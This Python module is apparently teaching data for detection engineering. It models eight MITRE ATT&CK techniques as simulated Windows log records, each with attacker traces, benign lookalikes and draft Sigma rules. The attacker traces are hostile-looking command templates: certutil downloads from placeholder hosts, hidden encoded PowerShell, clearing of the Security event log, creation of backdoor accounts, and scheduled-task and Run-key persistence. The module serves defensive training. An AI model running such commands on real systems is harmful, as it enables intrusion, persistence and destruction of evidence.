"""Eight techniques of MITRE ATT&CK as records that a defender would see, and what is like them.

Each technique has the traces that it leaves (``planted``), a second set in other spellings
(``unseen``: nobody who writes a rule has met them), and ``harmless`` work of an office that looks
like it. Programs of the office are those of a fictive vendor, Sahel; addresses are for
documentation (RFC 5737), names end in ``.example`` (RFC 2606). Command lines are inert: what they
name exists nowhere, and encoded text decodes to a sentence.
"""

from __future__ import annotations

from collections.abc import Mapping

from dalil.courses.detection.methods.traces import (
    AGENT,
    CMD,
    DEPLOY,
    EXPLORER,
    MAIL,
    POWERSHELL,
    PROGRAMS,
    SERVICES,
    SHEET,
    SYSTEM32,
    WORD,
    Technique,
    Trace,
)

_SCHTASKS, _CERTUTIL = f"{SYSTEM32}schtasks.exe", f"{SYSTEM32}certutil.exe"
_WEVTUTIL, _RUNDLL32 = f"{SYSTEM32}wevtutil.exe", f"{SYSTEM32}rundll32.exe"
_NET, _REG = f"{SYSTEM32}net.exe", f"{SYSTEM32}reg.exe"
_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_HKLM_RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def _admin(image: str, command: str, parent: str = CMD) -> Trace:
    return Trace(image, command, parent, "admin")


def _system(image: str, command: str, parent: str = AGENT) -> Trace:
    return Trace(image, command, parent, "system")


def _value(key: str, details: str, image: str = _REG, actor: str = "user") -> Trace:
    return Trace(image, actor=actor, key=key, details=details)


_ENCODED = Technique(
    "T1059.001",
    "Command and Scripting Interpreter: PowerShell",
    "process_creation",
    planted=(
        Trace(POWERSHELL, "powershell.exe -NoP -W Hidden -Enc {enc}", WORD),
        Trace(POWERSHELL, '"{image}" -w hidden -ep bypass -e {enc}', f"{SYSTEM32}wscript.exe"),
        Trace(POWERSHELL, "powershell -nop -windowstyle hidden -encodedcommand {enc}", SHEET),
        Trace(POWERSHELL, "powershell.exe -EncodedCommand {enc}", CMD),
    ),
    unseen=(
        Trace(POWERSHELL, "powershell.exe /w hidden /enc {enc}", f"{SYSTEM32}mshta.exe"),
        Trace(POWERSHELL, "PowerShell.exe -noni -eC {enc}", MAIL),
    ),
    harmless=(
        _system(POWERSHELL, "powershell.exe -NonInteractive -EncodedCommand {enc}"),
        _system(POWERSHELL, "powershell.exe -NoP -WindowStyle Hidden -Enc {enc}", DEPLOY),
        _admin(POWERSHELL, 'powershell.exe -NoProfile -File "C:\\Admin\\{word}.ps1"'),
        _admin(POWERSHELL, "powershell.exe -NoP Get-ChildItem C:\\Admin\\{word} -Exclude {n}.log"),
        _system(POWERSHELL, "powershell.exe -w hidden -File C:\\Admin\\{word}.ps1"),
    ),
    draft="""\
  selection:
    Image|endswith: '\\powershell.exe'
    CommandLine|contains:
      - ' -enc'
      - ' -w hidden'
  condition: selection
""",
)
_TASK = Technique(
    "T1053.005",
    "Scheduled Task/Job: Scheduled Task",
    "process_creation",
    tactic="persistence",
    planted=(
        Trace(
            _SCHTASKS,
            'schtasks /create /tn "{word} Update" /tr "C:\\Users\\Public\\{word}.exe" '
            "/sc minute /mo 30",
            CMD,
        ),
        Trace(
            _SCHTASKS,
            "schtasks.exe /Create /SC ONLOGON /TN {word} /F "
            "/TR C:\\Users\\{user}\\AppData\\Roaming\\{word}.exe",
            WORD,
        ),
        Trace(
            _SCHTASKS,
            '"{image}" /create /f /sc daily /st 12:{n} /tn {word} '
            '/tr "wscript.exe C:\\ProgramData\\{word}.vbs"',
            f"{SYSTEM32}wscript.exe",
        ),
        Trace(
            _SCHTASKS,
            "schtasks /create /sc onidle /i 10 /tn {word} /tr C:\\Users\\Public\\{word}.cmd",
            POWERSHELL,
        ),
    ),
    unseen=(
        Trace(_SCHTASKS, "schtasks -create -sc onlogon -tn {word} -tr %APPDATA%\\{word}.exe", CMD),
        Trace(
            _SCHTASKS,
            "SCHTASKS /CREATE /SC HOURLY /TN {word} /TR C:\\USERS\\PUBLIC\\{word}.BAT",
            POWERSHELL,
        ),
    ),
    harmless=(
        _admin(
            _SCHTASKS,
            'schtasks /create /tn "Sahel Backup {n}" /sc daily /st 02:00 '
            '/tr "C:\\Program Files\\Sahel Backup\\backup.exe --full"',
        ),
        _system(
            _SCHTASKS,
            'schtasks.exe /Create /F /TN "Sahel Inventory" /SC HOURLY '
            '/TR "C:\\ProgramData\\Sahel Agent\\inventory.exe --n {n}"',
        ),
        _admin(_SCHTASKS, 'schtasks /query /v /fo csv /tn "{word} Update"'),
        _admin(_SCHTASKS, 'schtasks /create /tn {word} /xml "C:\\Admin\\tasks\\{word}.xml"'),
        _admin(_SCHTASKS, "schtasks /delete /f /tn {word} /s localhost"),
        Trace(_SCHTASKS, 'schtasks /query /tn "Sahel Drive {user}"'),
    ),
    draft="""\
  selection:
    Image|endswith: '\\schtasks.exe'
    CommandLine|contains|all:
      - '/create'
      - '/sc'
    CommandLine|contains:
      - 'C:\\Users\\Public\\'
      - 'C:\\ProgramData\\'
      - ' daily '
  condition: selection
""",
)
_TRANSFER = Technique(
    "T1105",
    "Ingress Tool Transfer",
    "process_creation",
    tactic="command and control",
    planted=(
        Trace(
            _CERTUTIL,
            "certutil.exe -urlcache -split -f http://{ip}/{word}.dat C:\\Users\\Public\\{word}.dat",
            CMD,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil -f -urlcache https://{word}.example/{n}.txt "
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.exe",
            SHEET,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            '"{image}" -verifyctl -f -split http://{ip}:8080/{word}',
            POWERSHELL,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil -urlcache -f http://cdn.{word}.example/{word}.zip {word}.zip",
            f"{SYSTEM32}wscript.exe",
            original="CertUtil.exe",
        ),
    ),
    unseen=(
        Trace(
            _CERTUTIL,
            "CERTUTIL /URLCACHE /F HTTP://{ip}/{word}.PNG {word}.exe",
            CMD,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil /verifyctl /f https://{word}.example/{n}/{word}.bin",
            WORD,
            original="CertUtil.exe",
        ),
    ),
    harmless=(
        _system(
            _CERTUTIL,
            "certutil.exe -urlcache -f http://pki.{org}.example/crl/{n}.crl "
            '"C:\\ProgramData\\Sahel Agent\\{n}.crl"',
        ),
        _admin(_CERTUTIL, "certutil -urlcache * delete"),
        _admin(_CERTUTIL, "certutil -verify -urlfetch C:\\Admin\\certs\\{word}.cer"),
        _admin(_CERTUTIL, "certutil -urlcache crl"),
        _admin(_CERTUTIL, 'certutil -f -split -dump "C:\\Admin\\certs\\{word}.pfx"'),
        Trace(_CERTUTIL, "certutil -hashfile C:\\Users\\{user}\\Documents\\{word}.pdf SHA256", CMD),
    ),
    draft="""\
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains:
      - '-urlcache'
      - '-split'
  condition: selection
""",
)
_RUN_KEY = Technique(
    "T1547.001",
    "Boot or Logon Autostart Execution: Registry Run Keys",
    "registry_set",
    tactic="persistence",
    planted=(
        _value(
            f"HKU\\{{sid}}\\{_RUN}\\{{word}}", "C:\\Users\\{user}\\AppData\\Roaming\\{word}.exe"
        ),
        _value(f"{_HKLM_RUN}Once\\{{word}}", "wscript.exe C:\\ProgramData\\{word}.vbs", POWERSHELL),
        _value(
            f"HKU\\{{sid}}\\{_RUN}\\{{word}} Update",
            '"C:\\Users\\Public\\{word}.exe" /background',
            f"{SYSTEM32}wscript.exe",
        ),
        _value(
            f"{_HKLM_RUN}\\{{word}}",
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.exe",
            POWERSHELL,
        ),
    ),
    unseen=(
        _value(
            "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}",
            "rundll32.exe C:\\Users\\Public\\{word}.dll,Start",
        ),
        _value(f"HKU\\{{sid}}\\{_RUN}Once\\{{word}}", "c:\\users\\public\\{word}.cmd", POWERSHELL),
    ),
    harmless=(
        _value(
            f"{_HKLM_RUN}\\Sahel Agent",
            f"{PROGRAMS}Sahel Agent\\tray.exe --n {{n}}",
            AGENT,
            "system",
        ),
        _value(
            f"HKU\\{{sid}}\\{_RUN}\\Sahel Drive",
            '"C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\drive.exe" /background',
            "C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\drive.exe",
        ),
        _value(
            f"{_HKLM_RUN}Once\\{{word}} Setup",
            f"{PROGRAMS}{{word}}\\setup.exe /n{{n}}",
            DEPLOY,
            "system",
        ),
        _value(
            f"HKU\\{{sid}}\\{_RUN}\\Sahel Web",
            "C:\\Users\\{user}\\AppData\\Local\\Sahel Web\\update.exe --n {n}",
            f"{PROGRAMS}Sahel Web\\web.exe",
        ),
        _value(
            f"{_HKLM_RUN}\\Sahel Kiosk",
            "C:\\Users\\Public\\Sahel Kiosk\\kiosk.exe",
            DEPLOY,
            "system",
        ),
        _value(f"HKU\\{{sid}}\\{_RUN}Notification\\Drive{{n}}", "DWORD (0x00000001)", EXPLORER),
        _value(
            "HKLM\\SOFTWARE\\Sahel\\Runtime\\Path",
            "C:\\ProgramData\\Sahel Agent\\runtime.exe",
            AGENT,
            "system",
        ),
    ),
    draft="""\
  selection:
    TargetObject|contains: '\\CurrentVersion\\Run'
    Details|contains:
      - '\\AppData\\'
      - '\\Users\\Public\\'
  condition: selection
""",
)
_DISGUISE = Technique(
    "T1036.005",
    "Masquerading: Match Legitimate Name or Location",
    "process_creation",
    tactic="defense evasion",
    planted=(
        Trace("C:\\Users\\Public\\svchost.exe", "svchost.exe -k {word}", CMD),
        Trace("C:\\ProgramData\\lsass.exe", "C:\\ProgramData\\lsass.exe", POWERSHELL),
        Trace(
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\taskhostw.exe",
            '"C:\\Users\\{user}\\AppData\\Local\\Temp\\taskhostw.exe" /{n}',
        ),
        Trace("C:\\Windows\\Temp\\svchost.exe", "C:\\Windows\\Temp\\svchost.exe -k {word}", WORD),
    ),
    unseen=(
        Trace("C:\\Windows\\svchost.exe", "C:\\Windows\\svchost.exe", CMD),
        Trace(
            "C:\\Users\\{user}\\Downloads\\SVCHOST.EXE", "C:\\Users\\{user}\\Downloads\\SVCHOST.EXE"
        ),
    ),
    harmless=(
        _system(
            "C:\\Windows\\SysWOW64\\svchost.exe", "svchost.exe -k {word}Group -p -s {n}", SERVICES
        ),
        _system(
            "C:\\Windows\\WinSxS\\amd64_sahel-hosts_{n}\\svchost.exe",
            "svchost.exe -k repair",
            f"{SYSTEM32}TiWorker.exe",
        ),
        _system(
            "C:\\Windows\\SoftwareDistribution\\Download\\{n}\\taskhostw.exe",
            "taskhostw.exe /update",
            f"{SYSTEM32}wuauclt.exe",
        ),
        _system(f"{SYSTEM32}taskhostw.exe", "taskhostw.exe {word}", f"{SYSTEM32}svchost.exe"),
        _system(f"{SYSTEM32}svchost.exe", "C:\\Windows\\System32\\svchost.exe -k {word}", SERVICES),
        _admin(f"{PROGRAMS}Sahel Lab\\mysvchost.exe", "mysvchost.exe --config {word}"),
    ),
    draft="""\
  selection:
    Image|endswith: 'svchost.exe'
  filter:
    Image|startswith: 'C:\\Windows\\System32\\'
  condition: selection and not filter
""",
)
_CLEAR = Technique(
    "T1070.001",
    "Indicator Removal: Clear Windows Event Logs",
    "process_creation",
    tactic="defense evasion",
    planted=(
        Trace(_WEVTUTIL, "wevtutil cl Security", CMD),
        Trace(_WEVTUTIL, "wevtutil.exe clear-log System", POWERSHELL),
        Trace(_WEVTUTIL, '"{image}" cl Application', CMD),
        Trace(
            _WEVTUTIL,
            "wevtutil cl Microsoft-Windows-Sysmon/Operational /bu:C:\\Users\\Public\\{word}.evtx",
            CMD,
        ),
    ),
    unseen=(
        Trace(_WEVTUTIL, "WEVTUTIL CL Security /r:localhost", CMD),
        Trace(_WEVTUTIL, "wevtutil Clear-Log Microsoft-Windows-PowerShell/Operational", POWERSHELL),
    ),
    harmless=(
        _system(
            _WEVTUTIL,
            "wevtutil.exe cl Sahel-Backup/Operational",
            f"{PROGRAMS}Sahel Backup\\backup.exe",
        ),
        _admin(_WEVTUTIL, "wevtutil epl Security C:\\Admin\\{word}-{n}.evtx"),
        _admin(_WEVTUTIL, "wevtutil qe Security /c:{n} /rd:true /f:text"),
        _admin(_WEVTUTIL, "wevtutil gl Microsoft-Windows-Sysmon/Operational"),
        _admin(_WEVTUTIL, "wevtutil sl Security /ms:{n}048576"),
        _system(_WEVTUTIL, "wevtutil.exe clear-log Sahel-Agent/Debug"),
    ),
    draft="""\
  selection:
    Image|endswith: '\\wevtutil.exe'
    CommandLine|contains:
      - ' cl '
      - 'Security'
  condition: selection
""",
)
_DLL = Technique(
    "T1218.011",
    "System Binary Proxy Execution: Rundll32",
    "process_creation",
    tactic="defense evasion",
    planted=(
        Trace(_RUNDLL32, "rundll32.exe C:\\Users\\Public\\{word}.dll,Start", CMD),
        Trace(_RUNDLL32, "rundll32 C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.tmp,#1", SHEET),
        Trace(_RUNDLL32, '"{image}" "C:\\ProgramData\\{word}.dll",Init', f"{SYSTEM32}wscript.exe"),
        Trace(_RUNDLL32, "rundll32.exe C:\\Users\\Public\\{word}.dat,Open {n}", WORD),
    ),
    unseen=(
        Trace(_RUNDLL32, "RUNDLL32 C:\\USERS\\PUBLIC\\{word}.DLL,Start", POWERSHELL),
        Trace(_RUNDLL32, "rundll32.exe %APPDATA%\\{word}.dll,Start", CMD),
    ),
    harmless=(
        Trace(_RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL timedate.cpl"),
        Trace(_RUNDLL32, "rundll32.exe printui.dll,PrintUIEntry /il"),
        _system(
            _RUNDLL32, 'rundll32.exe "C:\\ProgramData\\Sahel Agent\\probe.dll",Collect {n}', AGENT
        ),
        Trace(
            _RUNDLL32,
            'rundll32.exe "C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\shell.dll",Sync',
            "C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\drive.exe",
        ),
        _admin(_RUNDLL32, "rundll32.exe C:\\Windows\\System32\\{word}.dll,Install {n}"),
    ),
    draft="""\
  selection:
    Image|endswith: '\\rundll32.exe'
    CommandLine|contains:
      - '\\Users\\'
      - '\\ProgramData\\'
  condition: selection
""",
)
_ACCOUNT = Technique(
    "T1136.001",
    "Create Account: Local Account",
    "process_creation",
    tactic="persistence",
    planted=(
        Trace(_NET, "net user {word} Passe-{n} /add", CMD),
        Trace(_NET, '"{image}" user /add {word}$ Passe-{n}', POWERSHELL),
        Trace(f"{SYSTEM32}net1.exe", "net1 user {word} /add /active:yes", _NET),
        Trace(_NET, "net.exe user support{n} Passe-{n} /ADD /expires:never", CMD),
    ),
    unseen=(
        Trace(_NET, "NET USER {word} Passe-{n} /ADD", WORD),
        Trace(_NET, "net  user  {word}  /add", f"{SYSTEM32}wscript.exe"),
    ),
    harmless=(
        _admin(_NET, "net user {user} /domain"),
        _admin(_NET, "net user stagiaire{n} Passe-{n} /add /domain"),
        _admin(_NET, "net localgroup {word} {user} /add"),
        _admin(_NET, "net user {word} /active:no"),
        Trace(_NET, "net use Z: \\\\SERVEUR-01\\{word}", CMD),
    ),
    draft="""\
  selection:
    Image|endswith: '\\net.exe'
    CommandLine|contains: 'user'
  condition: selection
""",
)

TECHNIQUES: Mapping[str, Technique] = {
    technique.id: technique
    for technique in (*(_DISGUISE, _TASK, _ENCODED, _CLEAR, _TRANSFER, _ACCOUNT, _DLL, _RUN_KEY),)
}
"""ATT&CK id → technique, in the order of the ids."""

EXAMPLES = ("T1136.001", "T1218.011")
"""What lessons and apps show; cases of the exercise are of the other ones."""
